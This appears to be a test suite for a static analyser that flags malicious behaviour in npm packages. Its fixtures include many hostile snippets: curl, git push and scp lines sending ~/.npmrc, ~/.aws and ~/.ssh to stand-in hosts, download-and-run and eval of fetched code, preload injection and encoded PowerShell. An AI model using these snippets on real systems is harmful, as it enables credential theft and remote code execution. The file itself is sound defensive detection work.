import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { behavioursOf, flowsOf } from './sent.js';

const SENT = 'credential-file>command-argument@collect.invalid';

/** Commands that send, and how data gets to them. */
const WAYS: readonly string[] = [
  `cp.execSync('curl -T ~/.npmrc https://collect.invalid');`,
  `const t = path.join(os.tmpdir(), 'z'); fs.writeFileSync(t, s); cp.execSync('curl -T ' + t + ' https://collect.invalid');`,
  `cp.spawn('curl', ['-d', '@-', 'https://collect.invalid']).stdin.end(s);`,
  `cp.execSync('curl -d @- https://collect.invalid', { input: s });`,
  `cp.execSync('env > /tmp/out; zip -qr /tmp/all.zip ~/.aws'); cp.execSync('curl -F f=@/tmp/all.zip https://collect.invalid');`,
  `const d = fs.mkdtempSync('/tmp/x'); cp.execFileSync('tar', ['czf', d + '/all.tgz', '.aws', '.config/gh'], { cwd: os.homedir() }); cp.execFileSync('git', ['push', '-q', 'https://collect.invalid/x.git', 'HEAD'], { cwd: d });`,
  `const d = fs.mkdtempSync('/tmp/x'); fs.writeFileSync(d + '/a', s); cp.execSync('git add . && git push https://collect.invalid/x.git', { cwd: d });`,
];

describe('commands', () => {
  for (const way of WAYS) {
    it(`send what they are given by ${way}`, () => {
      const flows = flowsOf(way);
      assert.ok(flows.includes(SENT), flows.join('; '));
    });
  }

  it('leave in files what they print, for whoever reads them', () => {
    const sent = (command: string): readonly string[] =>
      flowsOf(
        `cp.execSync('${command}'); fetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync('/tmp/out') });`,
      );
    assert.deepEqual(sent('env > /tmp/out'), ['environment>network@collect.invalid']);
    assert.deepEqual(sent('tar -c -z --file=/tmp/out ~/.ssh'), ['ssh-key>network@collect.invalid']);
    for (const command of ['tar czf /tmp/out dist', 'ls -l > /tmp/out', 'env 2> /tmp/out', 'env > /tmp/other'])
      assert.deepEqual(sent(command), [], command);
  });

  it('make what a makefile of the package says', () => {
    const Makefile = 'all:\n\tcc -c a.c\nget:\n\t@curl -fsSL https://h.invalid/$$(uname -m) | sh\nself:\n\tmake self';
    const kinds = (code: string): readonly string[] =>
      analysePackage(
        packageOf({
          'package.json': '{"main":"index.js"}',
          'index.js': `const cp = require('child_process'), path = require('path');${code}`,
          'native/Makefile': Makefile,
        }),
      ).behaviours.map(({ kind }) => kind);
    for (const code of [
      `cp.execSync('make -s -C native get');`,
      `cp.execSync('cd /tmp; make -C ' + path.join(__dirname, 'native') + ' get');`,
      `cp.spawnSync('make', ['-f', 'native/Makefile', 'get'], { stdio: 'ignore' });`,
    ])
      assert.deepEqual(kinds(code), ['download-and-run'], code);
    for (const code of [
      `cp.execSync('make -C native');`,
      `cp.execSync('make -C native self');`,
      `cp.execSync('make -C native install');`,
      `cp.execSync('make');`,
    ])
      assert.deepEqual(kinds(code), [], code);
  });

  it('are run by what reads code from its input, and not by what has a program of its own', () => {
    const download = (started: string) =>
      flowsOf(
        `const child = ${started}; fetch('https://files.invalid').then((r) => r.text()).then((t) => child.stdin.write(t));`,
      );
    const isRun = (started: string) => download(started).includes('downloaded>run-as-command');
    for (const started of [
      `cp.spawn('/bin/sh')`,
      `cp.spawn('bash', ['-i'])`,
      `cp.spawn('cmd.exe', ['/q'])`,
      `cp.spawn(process.platform === 'win32' ? 'cmd.exe' : 'sh', [])`,
      `cp.spawn(process.env.SHELL)`,
      `cp.spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-Command', '-'])`,
      `cp.spawn(process.execPath)`,
      `cp.spawn('python3', ['-'])`,
      `cp.exec('node')`,
      `cp.spawn(Buffer.from('L2Jpbi9zaA==', 'base64').toString())`,
    ])
      assert.ok(isRun(started), started);
    for (const started of [
      `cp.spawn('java', ['-jar', 'rules.jar'])`,
      `cp.spawn(process.execPath, [require.resolve('./service.js'), '--ping'])`,
      `cp.spawn('bash', ['./deploy.sh'])`,
      `cp.spawn(module.exports.binary, module.exports.args)`,
      `cp.exec('git hash-object --stdin')`,
    ])
      assert.ok(!isRun(started), started);
  });

  it('send nothing by reading what lies in a folder called .ssh', () => {
    assert.deepEqual(flowsOf(`cp.execSync('tar cf /tmp/keys.tar ~/.ssh');`), []);
  });

  it('are what somebody sends, also where the code knows another one that it runs instead', () => {
    const route = (command: string) =>
      `module.exports = (app) => app.post('/run', (req, res) => { const { task } = { ...req.query }; cp.exec(${command}); res.end(); });`;
    const own = `'rm -rf ' + path.join(process.cwd(), 'out')`;
    assert.deepEqual(flowsOf(route(`task === 'clean' ? ${own} : task`)), ['request-input>run-as-command']);
    assert.deepEqual(flowsOf(route(`task === 'clean' ? ${own} : 'ls ' + process.cwd()`)), []);
  });

  it('start scripts of Python that lie in the package', () => {
    const started = (script: string): readonly string[] =>
      analysePackage(
        packageOf({
          'index.js': `require('child_process').spawn('python3', [require('path').join(__dirname, 'py', 'agent.py'), '-d']);`,
          'py/agent.py': script,
        }),
      ).behaviours.map(({ kind, moment }) => `${kind} ${moment}`);
    assert.deepEqual(
      started('with urlopen(url, timeout=9) as answer:\n    text = answer.read().decode()\nexec(text)'),
      ['download-and-run import'],
    );
    assert.deepEqual(started('with urlopen(url) as answer:\n    text = answer.read()\nprint(len(text))'), []);
  });

  it('leave pictures of the screen in files', () => {
    const shot = (command: string) =>
      `cp.execSync(${command}); fetch('https://collect.invalid', { method: 'POST', body: fs.readFileSync('/tmp/.s.png') });`;
    for (const command of [
      `'screencapture -x /tmp/.s.png'`,
      `'scrot -z ' + '/tmp/.s.png'`,
      `'import -window root /tmp/.s.png'`,
    ])
      assert.ok(flowsOf(shot(command)).includes('screenshot>network@collect.invalid'));
    assert.deepEqual(flowsOf(shot(`'convert logo.svg /tmp/.s.png'`)), []);
  });

  it('run the code that was put into a file for them', () => {
    const load = `require('https').get('https://load.invalid', (r) => r.on('data', (d) => eval(String(d))));`;
    const code = `fs.writeFileSync('/tmp/a.js', ${JSON.stringify(load)}); cp.spawn(process.execPath, ['/tmp/a.js']);`;
    assert.ok(flowsOf(code).includes('downloaded>evaluated'));
  });

  it('load a downloaded file before the one they name', () => {
    const fetched = `fetch('https://load.invalid').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/p.js', t);`;
    for (const more of [`{ execArgv: ['-r', '/tmp/p.js'] }`, `{ env: { NODE_OPTIONS: '--require /tmp/p.js' } }`]) {
      assert.ok(flowsOf(`${fetched} cp.fork('./x.js', [], ${more}); });`).includes('downloaded>loaded-as-module'));
    }
  });

  it('send what the code has put into variables that they name', () => {
    const run = (env: string): readonly string[] =>
      flowsOf(
        `cp.spawn('sh', ['-c', 'curl -s -d "$DATA" https://collect.invalid'], { env: { ...process.env, ${env} } });`,
      );
    assert.deepEqual(run('DATA: s'), ['credential-file>command-argument@collect.invalid']);
    assert.deepEqual(run(`DATA: 'hello', OTHER: s`), []);
  });

  describe('that PowerShell gets encoded', () => {
    const done = (command: string): readonly string[] =>
      analysePackage(
        packageOf({
          'index.js': `const cp = require('child_process'); module.exports = () => cp.spawn('powershell', ['-NoProfile', '-EncodedCommand', ${command}]);`,
        }),
      ).behaviours.map(({ kind }) => kind);
    const list = 'Get-CimInstance Win32_Process | Select-Object ProcessId, ParentProcessId';
    const inBase64 = Buffer.from(list, 'utf16le').toString('base64');

    it('hide nothing where the code says openly what they are', () => {
      assert.deepEqual(done(`Buffer.from('${list}', 'utf16le').toString('base64')`), []);
    });

    it('are hidden where they stand there encoded, or were encoded twice', () => {
      assert.ok(done(`'${inBase64}'`).includes('encoded-command'));
      const inHex = Buffer.from(list, 'utf16le').toString('hex');
      assert.ok(done(`Buffer.from('${inHex}', 'hex').toString('base64')`).includes('encoded-command'));
    });

    it('are not hidden where nothing is known of them', () => {
      assert.ok(!done(`Buffer.from(require('x').command, 'utf16le').toString('base64')`).includes('encoded-command'));
    });

    it('do what they say in either case', () => {
      const evil = `iex (iwr https://collect.invalid/a.ps1)`;
      assert.ok(done(`Buffer.from('${evil}', 'utf16le').toString('base64')`).includes('download-and-run'));
    });
  });

  it('that start a file through another program say which file that is', () => {
    const code = `fetch('https://files.invalid/tool').then((r) => r.arrayBuffer()).then((b) => {
      fs.writeFileSync('/tmp/.tool', Buffer.from(b)); cp.spawn('sudo', ['-S', '/tmp/.tool']); });`;
    const { flows } = analysePackage(
      packageOf({ 'index.js': `const fs = require('fs'), cp = require('child_process'); ${code}` }),
    );
    assert.deepEqual(
      flows.map(({ sink, address }) => [sink, address]),
      [['written-and-run', '/tmp/.tool']],
    );
  });

  it('that unpack a file run nothing of it, until something of what was in it is run', () => {
    const fetched = (then: string) =>
      `fetch('https://files.invalid/tool').then((r) => r.arrayBuffer()).then((b) => { fs.writeFileSync('/opt/x/tool.zip', Buffer.from(b)); ${then} });`;
    for (const unpacking of [
      `cp.execFileSync('unzip', ['-o', '/opt/x/tool.zip', '-d', '/opt/y']);`,
      `cp.execSync('tar -xzf /opt/x/tool.zip -C /opt/y');`,
      `cp.execFileSync('powershell.exe', ['-NoProfile', '-Command', "Expand-Archive -Force -LiteralPath '/opt/x/tool.zip' -DestinationPath '/opt/y'"]);`,
    ]) {
      assert.deepEqual(flowsOf(fetched(unpacking)).filter(isRunning), [], unpacking);
      const flows = flowsOf(fetched(`${unpacking} cp.spawn('/opt/y/tool', []);`)).filter(isRunning);
      assert.deepEqual(flows, ['downloaded>written-and-run'], unpacking);
    }
    for (const running of [
      `cp.execSync('tar -xzf /opt/x/tool.zip -C /opt/y && sh /opt/y/setup.sh');`,
      `cp.execSync('tar -xf /opt/x/tool.zip -C /opt/y --to-command=sh');`,
      `cp.execFileSync('powershell.exe', ['-Command', "Expand-Archive '/opt/x/tool.zip' -DestinationPath '/opt/y'; /opt/y/run.ps1"]);`,
    ])
      assert.notDeepEqual(flowsOf(fetched(running)).filter(isRunning), [], running);
  });

  it('find what stands behind their name in process.argv', () => {
    const send = `'fetch("https://collect.invalid", { method: "POST", body: process.argv[1] })'`;
    assert.ok(
      flowsOf(`cp.spawn(process.execPath, ['-e', ${send}, s], { detached: true });`).includes(
        'credential-file>network@collect.invalid',
      ),
    );
    assert.deepEqual(flowsOf(`cp.spawn(process.execPath, ['-e', ${send}, '--version']);`), []);
  });

  it('run code in which data was put', () => {
    const run = (body: string): readonly string[] =>
      flowsOf(
        `cp.spawnSync(process.execPath, ['-e', \`fetch('https://collect.invalid', { method: 'POST', body: ${body} })\`]);`,
      );
    const sent = 'credential-file>network@collect.invalid';
    for (const body of [
      '${JSON.stringify(s)}',
      '"${s}"',
      '${JSON.stringify({ file: fs.existsSync(rc) ? s : "" })}',
      '\\`id ${s}\\`',
    ])
      assert.ok(run(body).includes(sent), `${body}: ${run(body).join()}`);
    assert.ok(!run('${JSON.stringify(go())}').includes(sent));
  });

  it('are a script where a file is forked, with what is loaded before it', () => {
    const fetched = (then: string) =>
      flowsOf(
        `fetch('https://load.invalid/a').then((r) => r.text()).then((t) => { fs.writeFileSync(os.tmpdir() + '/a.js', t); ${then} });`,
      );
    assert.deepEqual(fetched(`cp.fork(os.tmpdir() + '/a.js');`), ['downloaded>run-as-command']);
    assert.deepEqual(fetched(`cp.fork(os.tmpdir() + '/b.js');`), []);
    const preloaded = (flags: string) =>
      analysePackage(
        packageOf({
          'index.js': `require('child_process').fork('./ok.js', [], { execArgv: ${flags} });`,
          'ok.js': '',
          'spy.js': `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`,
        }),
      ).flows.map(({ source, moment }) => `${source} ${moment}`);
    assert.deepEqual(preloaded(`['--require', './spy.js']`), ['environment import']);
    assert.deepEqual(preloaded(`['--no-warnings']`), ['environment call']);
  });

  it('are told code to load first by an address that holds it', () => {
    const address = `'data:text/javascript,' + encodeURIComponent('const r = await fetch("https://load.invalid"); eval(await r.text())')`;
    for (const start of [
      `cp.fork('./c.js', [], { execArgv: ['--import', CODE] });`,
      `cp.spawn(process.execPath, ['--import', CODE, 'c.js']);`,
      `cp.spawn('npm', ['test'], { env: { ...process.env, NODE_OPTIONS: '--import ' + CODE } });`,
      `cp.exec('npm test', { env: { NODE_OPTIONS: '--import=' + CODE } });`,
      `require('cluster').setupPrimary({ exec: './c.js', execArgv: ['--import', CODE] });`,
      `new (require('worker_threads').Worker)('./c.js', { execArgv: ['--import', CODE] });`,
    ])
      assert.deepEqual(flowsOf(start.replace('CODE', address)), ['downloaded>evaluated'], start);
    assert.deepEqual(
      flowsOf(
        `cp.fork('./c.js', [], { execArgv: ['-e', 'fetch("https://a.invalid").then((r) => r.text()).then(eval)'] });`,
      ),
      ['downloaded>evaluated'],
    );
    assert.deepEqual(flowsOf(`cp.fork('./c.js', [], { execArgv: ['--max-old-space-size=4096'] });`), []);
  });

  it('that ask a host print or save what that gives', () => {
    for (const [code, flow] of [
      [`eval(cp.execSync('curl -s https://load.invalid/x').toString());`, 'downloaded>evaluated'],
      [`cp.exec('wget -qO- https://load.invalid/x', (e, out) => new Function(out)());`, 'downloaded>evaluated'],
      [
        `cp.execSync('curl -s -o /tmp/x.js https://load.invalid/x'); cp.execSync('node /tmp/x.js');`,
        'downloaded>run-as-command',
      ],
      [
        `cp.execFileSync('curl', ['-fsSLo', '/tmp/x.js', 'https://load.invalid/x']); require('/tmp/x.js');`,
        'downloaded>loaded-as-module',
      ],
      [
        `cp.execSync('cd /tmp'); cp.execSync('curl -sO https://load.invalid/tool.sh'); cp.spawn('sh', ['tool.sh']);`,
        'downloaded>run-as-command',
      ],
    ] as const)
      assert.ok(flowsOf(code).includes(flow), `${code}: ${flowsOf(code).join()}`);
    assert.deepEqual(flowsOf(`JSON.parse(cp.execSync('curl -s https://api.example/v').toString()).version;`), []);
    assert.deepEqual(
      flowsOf(`cp.execSync('curl -so /tmp/a.json https://api.example/v'); cp.execSync('cat /tmp/b.json');`),
      [],
    );
  });

  it('fetch and run in one go, however their options are written', () => {
    for (const options of ['-so /tmp/f', '-fsSLo /tmp/f', '-o/tmp/f', '--output /tmp/f'])
      assert.deepEqual(
        behavioursOf(`cp.execSync('curl ${options} https://load.invalid/f && sh /tmp/f');`),
        ['download-and-run import'],
        options,
      );
  });

  it('are code for what interprets their words', () => {
    const text = `fetch('https://load.invalid').then((r) => r.text()).then((t) => `;
    assert.deepEqual(flowsOf(`${text} cp.spawn('python3', ['-c', t]));`), ['downloaded>run-as-command']);
    assert.deepEqual(flowsOf(`${text} cp.spawn('python3', ['render.py', t]));`), []);
    assert.deepEqual(flowsOf(`const { $ } = require('zx'); $\`curl -d \${s} https://collect.invalid\`;`), [
      'credential-file>command-argument@collect.invalid',
    ]);
    assert.deepEqual(flowsOf(`require('got')('https://load.invalid').text().then(eval);`), ['downloaded>evaluated']);
  });

  it('find in their variables what the code has put there', () => {
    const child = `cp.spawn(process.execPath, ['-e', "fetch('https://collect.invalid', { method: 'POST', body: process.env.K })"], { env: { K: s } });`;
    assert.deepEqual(flowsOf(child), ['credential-file>network@collect.invalid']);
    assert.deepEqual(flowsOf(`process.env.K = s; fetch('https://collect.invalid/' + process.env.K);`), [
      'credential-file>network@collect.invalid',
    ]);
  });

  it('are npm by whatever name it has on a system', () => {
    const installs = (program: string) =>
      behavioursOf(`cp.spawn(${program}, ['i', '-g', 'claw-helper'], { stdio: 'ignore' });`);
    assert.deepEqual(installs(`process.platform === 'win32' ? 'npm.cmd' : 'npm'`), ['installs-globally import']);
    assert.deepEqual(installs(`process.platform === 'win32' ? 'tool.cmd' : 'tool'`), []);
  });

  it('copy files to other machines by their names', () => {
    const copied = flowsOf(`cp.spawn('scp', ['-r', os.homedir() + '/.aws', 'u@collect.invalid:/in']);`);
    assert.deepEqual([...new Set(copied)], ['credential-file>command-argument']);
    assert.deepEqual(flowsOf(`cp.spawn('scp', ['-r', 'dist', 'deploy@web.example:/srv']);`), []);
  });
});

function isRunning(flow: string): boolean {
  return flow.includes('run');
}
